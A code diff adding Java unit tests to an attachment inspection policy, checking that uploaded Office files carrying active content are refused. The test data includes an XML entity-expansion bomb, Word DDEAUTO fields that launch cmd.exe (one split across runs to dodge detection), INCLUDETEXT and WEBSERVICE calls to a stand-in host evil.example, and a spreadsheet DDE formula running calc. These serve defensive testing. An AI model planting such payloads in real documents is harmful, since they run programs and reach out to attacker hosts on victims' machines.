@@ -170,6 +170,41 @@ class InspectionPolicyTest {
     }
 
     @Test
+    void aDocumentTypeInAnyPartIsRefused() {
+        byte[] bomb = Files.text("<!DOCTYPE d [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><d>&b;</d>");
+        for (String part : java.util.List.of("word/document.xml", "word/comments.xml", "docProps/core.xml")) {
+            refused(AttachmentProblem.TYPE_REFUSED, "a.docx", Files.docxWith(part, bomb));
+        }
+    }
+
+    @Test
+    void aFieldThatStartsAProgramOrFetchesIsRefusedHoweverItIsSplit() {
+        for (String field : java.util.List.of(
+                "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe \"/k calc\"'/>",
+                "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
+                        + "<w:r><w:instrText>E excel x</w:instrText></w:r>",
+                "<w:instrText> INCLUDETEXT \"http://evil.example/x\"</w:instrText>")) {
+            byte[] document = Files.text("<w:document xmlns:w='urn:w'>" + field + "</w:document>");
+            refused(AttachmentProblem.ACTIVE, "a.docx", Files.docxWith("word/document.xml", document));
+        }
+        byte[] dated = Files.text("<w:document xmlns:w='urn:w'><w:instrText> DATE \\@ yyyy</w:instrText>"
+                + "<w:t>link dde import</w:t></w:document>");
+        assertThat(InspectionPolicy.accept("a.docx", Files.docxWith("word/document.xml", dated)))
+                .isEqualTo(FileType.DOCX);
+    }
+
+    @Test
+    void aFormulaThatStartsAProgramOrFetchesIsRefused() {
+        for (String formula : java.util.List.of("cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://evil.example&quot;)")) {
+            byte[] sheet = Files.text("<worksheet><c><f>" + formula + "</f></c></worksheet>");
+            refused(AttachmentProblem.ACTIVE, "a.xlsx", Files.xlsxWith("xl/worksheets/sheet1.xml", sheet));
+        }
+        byte[] honest = Files.text("<worksheet><c><f>SUM(Sheet2!A1:A9)</f></c></worksheet>");
+        assertThat(InspectionPolicy.accept("a.xlsx", Files.xlsxWith("xl/worksheets/sheet1.xml", honest)))
+                .isEqualTo(FileType.XLSX);
+    }
+
+    @Test
     void aZipBombIsRefusedBeforeItFillsAnything() {
         byte[] bomb = Files.docxWith("word/media/image1.png", new byte[201 << 20]);
         assertThat(bomb.length).isLessThan(1 << 20);
